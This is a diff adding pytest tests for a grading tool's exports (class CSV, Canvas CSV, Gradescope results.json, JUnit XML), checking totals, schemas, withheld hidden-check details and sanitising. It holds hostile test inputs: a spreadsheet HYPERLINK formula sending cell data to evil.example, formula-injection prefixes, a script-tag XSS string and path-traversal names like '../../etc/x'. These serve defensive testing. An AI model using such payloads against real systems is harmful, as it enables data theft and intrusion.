@@ -1,0 +1,413 @@
+"""Gradebook exports: class CSV, Canvas import CSV, Gradescope results.json, JUnit XML."""
+
+from __future__ import annotations
+
+import copy
+import csv
+import io
+import json
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+
+from graders.batch.entry import DUPLICATE, GRADED, INVALID, MISSING, Entry
+from graders.batch.exports import (
+    HIDDEN_FAILURE,
+    canvas_csv,
+    class_csv,
+    gradescope_results,
+    junit_xml,
+    safe_name,
+    write_gradescope,
+)
+from graders.spec import load_spec
+
+FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
+SPEC = load_spec("selfcheck")
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+SECRET = "SECRET-hidden-counterexample-z=[2739.2337]"
+HOSTILE = "bad \x00\x1b<script>alert(1)</script>&amp; \ud800 end"
+
+
+def load(name: str) -> dict:
+    return json.loads((FIXTURES / name).read_text())
+
+
+@pytest.fixture(scope="module")
+def reference() -> dict:
+    return load("report_reference.json")
+
+
+@pytest.fixture(scope="module")
+def template() -> dict:
+    return load("report_template.json")
+
+
+def invalid_report(reference: dict) -> dict:
+    """What batch grading stores for an unreadable submission: every check failed, score 0."""
+    report = copy.deepcopy(reference)
+    for question in report["questions"]:
+        question.update(score=0.0, passed=False)
+        for check in question["checks"]:
+            check.update(status="error", message="the submission could not be read")
+    report.update(score=0.0, passed=False, submission="submissions/s03.py")
+    return report
+
+
+def one_wrong(reference: dict) -> dict:
+    """The reference with Q3's hidden check failing on a secret counterexample: 11/12."""
+    report = copy.deepcopy(reference)
+    q3 = next(q for q in report["questions"] if q["id"] == "q3")
+    hidden = next(c for c in q3["checks"] if c["visibility"] == "hidden")
+    hidden.update(
+        status="failed",
+        message=f"softmax disagrees with the reference ({SECRET})",
+        counterexample=SECRET,
+        hint=f"hint that gives away {SECRET}",
+    )
+    q3.update(score=0.0, passed=False)
+    report.update(score=11.0, passed=True)
+    return report
+
+
+@pytest.fixture(scope="module")
+def entries(reference: dict, template: dict) -> list[Entry]:
+    return [
+        Entry("s05", "selfcheck", DUPLICATE, detail="two submissions claimed s05"),
+        Entry("s01", "selfcheck", GRADED, report=reference),
+        Entry("s04", "selfcheck", MISSING, detail="nothing submitted"),
+        Entry("s02", "selfcheck", GRADED, report=template),
+        Entry(
+            "s03",
+            "selfcheck",
+            INVALID,
+            detail="selfcheck.py is not valid Python (line 3)",
+            report=invalid_report(reference),
+        ),
+        Entry("s06", "selfcheck", GRADED, report=one_wrong(reference)),
+    ]
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+# class CSV
+
+
+def test_class_csv_has_a_row_per_student_sorted_with_totals(entries: list[Entry]) -> None:
+    table = rows(class_csv(entries, SPEC))
+    assert [r["student"] for r in table] == ["s01", "s02", "s03", "s04", "s05", "s06"]
+    by_student = {r["student"]: r for r in table}
+    assert by_student["s01"]["total"] == "12"
+    assert by_student["s01"]["passed"] == "yes"
+    assert by_student["s02"]["total"] == "0"
+    assert by_student["s02"]["passed"] == "no"
+    assert by_student["s06"]["total"] == "11"
+    assert by_student["s06"]["q3 softmax"] == "0"
+    assert by_student["s06"]["q2 relu"] == "1"
+    assert all(r["max_score"] == "12" for r in table)
+    assert by_student["s03"]["status"] == INVALID
+    assert by_student["s03"]["detail"] == "selfcheck.py is not valid Python (line 3)"
+    assert by_student["s03"]["passed"] == "no"
+
+
+def test_class_csv_per_question_totals_add_up(entries: list[Entry]) -> None:
+    questions = [f"{q.id} {q.names[0]}" for q in SPEC.questions]
+    for row in rows(class_csv(entries, SPEC)):
+        if row["total"]:
+            assert sum(float(row[q]) for q in questions) == pytest.approx(float(row["total"]))
+
+
+def test_class_csv_leaves_cells_empty_without_a_report(entries: list[Entry]) -> None:
+    by_student = {r["student"]: r for r in rows(class_csv(entries, SPEC))}
+    for student in ("s04", "s05"):
+        row = by_student[student]
+        assert row["total"] == ""
+        assert all(row[f"{q.id} {q.names[0]}"] == "" for q in SPEC.questions)
+        assert row["passed"] == "no"
+    assert by_student["s05"]["status"] == DUPLICATE
+    assert by_student["s05"]["detail"] == "two submissions claimed s05"
+
+
+def test_class_csv_columns_follow_the_spec(entries: list[Entry]) -> None:
+    header = next(csv.reader(io.StringIO(class_csv(entries, SPEC))))
+    assert header[:2] == ["student", "status"]
+    assert header[2:14] == [f"{q.id} {q.names[0]}" for q in SPEC.questions]
+    assert header[2:5] == ["q1 Q1_ANSWER", "q2 relu", "q3 softmax"]
+    assert header[-4:] == ["total", "max_score", "passed", "detail"]
+    assert len(header) == 2 + len(SPEC.questions) + 4
+
+
+def test_class_csv_neutralises_formulas(reference: dict) -> None:
+    hostile = [Entry(FORMULA, "selfcheck", INVALID, detail="@SUM(1+1)", report=reference)]
+    row = rows(class_csv(hostile, SPEC))[0]
+    assert row["student"] == f"'{FORMULA}"
+    assert row["detail"] == "'@SUM(1+1)"
+
+
+def test_class_csv_refuses_entries_of_another_assignment(reference: dict) -> None:
+    other = [Entry("s01", "digits", GRADED, report=reference)]
+    with pytest.raises(ValueError, match="digits"):
+        class_csv(other, SPEC)
+
+
+# Canvas CSV
+
+
+def test_canvas_csv_header_and_points_possible_row(entries: list[Entry]) -> None:
+    lines = list(csv.reader(io.StringIO(canvas_csv(entries, SPEC))))
+    assert lines[0] == [
+        "Student",
+        "ID",
+        "SIS User ID",
+        "SIS Login ID",
+        "Section",
+        "Deep Learning Foundations: self-check (selfcheck)",
+    ]
+    assert lines[1] == ["Points Possible", "", "", "", "", "12"]
+    assert len(lines) == 2 + len(entries)
+
+
+def test_canvas_csv_scores_and_empty_cells(entries: list[Entry]) -> None:
+    lines = list(csv.reader(io.StringIO(canvas_csv(entries, SPEC))))[2:]
+    by_student = {line[2]: line for line in lines}
+    assert [line[2] for line in lines] == sorted(by_student)
+    for student, line in by_student.items():
+        assert line[0] == student  # recognisable on Canvas's "unknown students" list
+        assert line[1] == ""  # the Canvas user id, which we do not know
+        assert line[3] == student
+        assert line[4] == ""
+    assert by_student["s01"][5] == "12"
+    assert by_student["s02"][5] == "0"
+    assert by_student["s03"][5] == "0"  # invalid: the report's 0 stands
+    assert by_student["s06"][5] == "11"
+    assert by_student["s04"][5] == ""  # missing: an instructor decides
+    assert by_student["s05"][5] == ""  # duplicate: an instructor decides
+
+
+@pytest.mark.parametrize("student", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_canvas_csv_neutralises_formula_injection(reference: dict, student: str) -> None:
+    hostile = [Entry(student, "selfcheck", GRADED, report=reference)]
+    text = canvas_csv(hostile, SPEC)
+    row = list(csv.reader(io.StringIO(text)))[2]
+    assert row[0] == row[2] == row[3] == f"'{student}"
+    for cell in row:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert row[5] == "12"
+
+
+def test_canvas_csv_assignment_column(entries: list[Entry]) -> None:
+    def header(column: str | None) -> str:
+        return next(csv.reader(io.StringIO(canvas_csv(entries, SPEC, column))))[-1]
+
+    assert header("48213") == "Deep Learning Foundations: self-check (48213)"
+    assert header("Self-check (48213)") == "Self-check (48213)"
+    with pytest.raises(ValueError, match="Final Score"):
+        canvas_csv(entries, SPEC, "Self-check Final Score")
+    with pytest.raises(ValueError, match="Section"):
+        canvas_csv(entries, SPEC, "Section")
+
+
+# Gradescope results.json
+
+
+@pytest.fixture(scope="module")
+def validator():
+    jsonschema = pytest.importorskip("jsonschema")
+    schema = json.loads((FIXTURES / "gradescope_results.schema.json").read_text())
+    jsonschema.Draft202012Validator.check_schema(schema)
+    return jsonschema.Draft202012Validator(schema)
+
+
+@pytest.mark.parametrize("which", ["reference", "template", "invalid", "one_wrong"])
+def test_gradescope_results_validate(
+    validator, reference: dict, template: dict, which: str
+) -> None:
+    report = {
+        "reference": reference,
+        "template": template,
+        "invalid": invalid_report(reference),
+        "one_wrong": one_wrong(reference),
+    }[which]
+    results = gradescope_results(report)
+    errors = [error.message for error in validator.iter_errors(results)]
+    assert errors == []
+    json.dumps(results)  # JSON-ready
+    assert len(results["tests"]) == len(report["questions"])
+    assert results["score"] == pytest.approx(report["score"])
+    assert results["score"] == pytest.approx(sum(t["score"] for t in results["tests"]))
+    assert results["execution_time"] == pytest.approx(report["seconds"])
+    assert results["stdout_visibility"] == "hidden"
+    for test, question in zip(results["tests"], report["questions"], strict=True):
+        assert test["score"] == question["score"]
+        assert test["max_score"] == question["max_score"]
+        assert test["status"] == ("passed" if question["passed"] else "failed")
+        assert test["number"] == str(question["number"])
+        assert test["name"] == f"Q{question['number']} {question['title']}"
+
+
+def test_gradescope_schema_rejects_a_wrong_document(validator) -> None:
+    assert not validator.is_valid({"tests": [{"name": "no score anywhere"}]})
+    assert not validator.is_valid({"score": 1, "tests": [{"score": 1, "status": "ok"}]})
+    assert not validator.is_valid({"score": 1, "visibility": "students"})
+
+
+def test_gradescope_summary_and_note(reference: dict, template: dict) -> None:
+    passed = gradescope_results(reference)["output"]
+    assert "12 / 12, passed (pass mark 9)" in passed
+    assert "isolation: process" in passed
+    failed = gradescope_results(template, note="late: graded from the last copy")
+    assert failed["output"].startswith("late: graded from the last copy\n")
+    assert "0 / 12, not passed" in failed["output"]
+
+
+def test_gradescope_hides_hidden_check_details(reference: dict, template: dict) -> None:
+    results = gradescope_results(one_wrong(reference))
+    q3 = next(t for t in results["tests"] if t["number"] == "3")
+    assert q3["status"] == "failed"
+    assert HIDDEN_FAILURE in q3["output"]
+    assert SECRET not in json.dumps(results)
+    assert "disagrees with the reference" not in q3["output"]
+    # the template: Q3 fails a public check (shown) and a hidden one (withheld)
+    q3 = next(t for t in gradescope_results(template)["tests"] if t["number"] == "3")
+    assert "softmax stays finite for logits as large as 1e4" in q3["output"]
+    assert "Counterexample: z = [1000., 1001., 1002.]" in q3["output"]
+    assert "Hint: np.exp overflows" in q3["output"]
+    assert HIDDEN_FAILURE in q3["output"]
+    assert "z = [2739.2337]" not in q3["output"]
+    assert "contains nan at index" not in q3["output"]
+
+
+def test_gradescope_visibility_follows_the_checks(reference: dict) -> None:
+    report = copy.deepcopy(reference)
+    for check in report["questions"][0]["checks"]:
+        check["visibility"] = "public"
+    tests = gradescope_results(report)["tests"]
+    assert tests[0]["visibility"] == "visible"
+    assert {t["visibility"] for t in tests[1:]} == {"after_published"}
+
+
+def test_gradescope_score_never_exceeds_the_maximum(reference: dict) -> None:
+    report = copy.deepcopy(reference)
+    report["questions"][0]["score"] = 5.0  # a corrupted or hand-edited report
+    report["questions"][1]["score"] = -3.0
+    results = gradescope_results(report)
+    assert results["tests"][0]["score"] == 1.0
+    assert results["tests"][1]["score"] == 0.0
+    assert all(0 <= t["score"] <= t["max_score"] for t in results["tests"])
+    assert results["score"] <= sum(t["max_score"] for t in results["tests"])
+    assert results["score"] == 11.0
+
+
+def test_write_gradescope_writes_graded_and_invalid_only(
+    tmp_path: Path, entries: list[Entry], reference: dict, validator
+) -> None:
+    hostile = Entry("../../etc/x", "selfcheck", GRADED, report=reference)
+    written = write_gradescope([*entries, hostile], tmp_path)
+    names = sorted(path.parent.name for path in written)
+    assert names[1:] == ["s01", "s02", "s03", "s06"]
+    assert names[0].startswith("_.._etc_x-")
+    for path in written:
+        assert path.name == "results.json"
+        assert path.resolve().is_relative_to(tmp_path.resolve())
+        assert validator.is_valid(json.loads(path.read_text()))
+    invalid = json.loads((tmp_path / "s03" / "results.json").read_text())
+    assert invalid["output"].startswith("selfcheck.py is not valid Python (line 3)")
+    assert invalid["score"] == 0
+    assert not (tmp_path / "s04").exists()
+    assert not (tmp_path / "s05").exists()
+
+
+def test_safe_name() -> None:
+    assert safe_name("s01") == "s01"
+    assert safe_name("jane.doe-2") == "jane.doe-2"
+    assert safe_name("a/b") != safe_name("a_b")
+    assert safe_name("a/b") != safe_name("a\\b")
+    for student in ("..", ".", ".hidden", "a/../../b", "x\x00y", "", "é"):
+        name = safe_name(student)
+        assert name not in ("", ".", "..")
+        assert not name.startswith(".")
+        assert "/" not in name
+        assert "\x00" not in name
+
+
+# JUnit XML
+
+
+def expected_counts(report: dict) -> tuple[int, int, int]:
+    checks = [c for q in report["questions"] for c in q["checks"]]
+    failures = sum(c["status"] == "failed" for c in checks)
+    errors = sum(c["status"] in ("error", "timeout") for c in checks)
+    return len(checks), failures, errors
+
+
+def test_junit_counts_match_the_reports(reference: dict, template: dict) -> None:
+    reports = [("s01", reference), ("s02", template), ("s03", invalid_report(reference))]
+    root = ET.fromstring(junit_xml(reports))
+    assert root.tag == "testsuites"
+    suites = root.findall("testsuite")
+    assert [s.get("name") for s in suites] == ["s01", "s02", "s03"]
+    totals = [0, 0, 0]
+    for suite, (_, report) in zip(suites, reports, strict=True):
+        tests, failures, errors = expected_counts(report)
+        cases = suite.findall("testcase")
+        assert (int(suite.get("tests")), len(cases)) == (tests, tests)
+        assert int(suite.get("failures")) == failures == len(suite.findall("testcase/failure"))
+        assert int(suite.get("errors")) == errors == len(suite.findall("testcase/error"))
+        assert suite.get("skipped") == "0"
+        assert float(suite.get("time")) == pytest.approx(report["seconds"], abs=1e-3)
+        totals = [a + b for a, b in zip(totals, (tests, failures, errors), strict=True)]
+    assert [int(root.get(k)) for k in ("tests", "failures", "errors")] == totals
+    template_counts = expected_counts(template)
+    assert template_counts[1] > 0 and template_counts[2] > 0
+
+
+def test_junit_testcases_name_the_check(template: dict) -> None:
+    suite = ET.fromstring(junit_xml([("s02", template)])).find("testsuite")
+    case = next(
+        c for c in suite.iter("testcase") if c.get("name").startswith("check_softmax_large")
+    )
+    assert case.get("classname") == "selfcheck.q3"
+    assert case.get("name") == (
+        "check_softmax_large_inputs_finite: softmax stays finite for logits as large as 1e4 "
+        "(no overflow)"
+    )
+    failure = case.find("failure")
+    assert failure.get("message").startswith("softmax(z) for z = [1000., 1001., 1002.]")
+    assert "Counterexample: z = [1000., 1001., 1002.]" in failure.text
+    assert "Hint: np.exp overflows" in failure.text
+    error = next(c for c in suite.iter("testcase") if c.find("error") is not None).find("error")
+    assert error.get("type") == "error"
+    assert "NotImplementedError" in error.get("message")
+    properties = {p.get("name"): p.get("value") for p in suite.iter("property")}
+    assert properties["score"] == "0"
+    assert properties["passed"] == "false"
+
+
+def test_junit_stays_valid_xml_with_hostile_text(template: dict) -> None:
+    report = copy.deepcopy(template)
+    check = report["questions"][2]["checks"][2]
+    check.update(message=HOSTILE, counterexample=HOSTILE, hint=HOSTILE, title=HOSTILE)
+    report["questions"][3]["checks"][0].update(status="timeout", message=HOSTILE)
+    text = junit_xml([(f"student {HOSTILE}", report)])
+    root = ET.fromstring(text)  # would raise on NUL, ESC or a lone surrogate
+    text.encode("utf-8")
+    assert "\x00" not in text and "\x1b" not in text and "\ud800" not in text
+    assert "<script>" not in text
+    suite = root.find("testsuite")
+    assert suite.get("name") == "student bad <script>alert(1)</script>&amp;  end"
+    failure = next(c for c in suite.iter("failure") if "alert" in c.get("message"))
+    assert failure.get("message") == "bad <script>alert(1)</script>&amp;  end"
+    assert "bad <script>alert(1)</script>&amp;  end" in failure.text
+    timeouts = [e for e in suite.iter("error") if e.get("type") == "timeout"]
+    assert len(timeouts) == 1
+    assert int(suite.get("errors")) == expected_counts(report)[2]
+
+
+def test_junit_of_nothing_is_an_empty_testsuites() -> None:
+    root = ET.fromstring(junit_xml([]))
+    assert root.tag == "testsuites"
+    assert root.get("tests") == "0"
+    assert list(root) == []
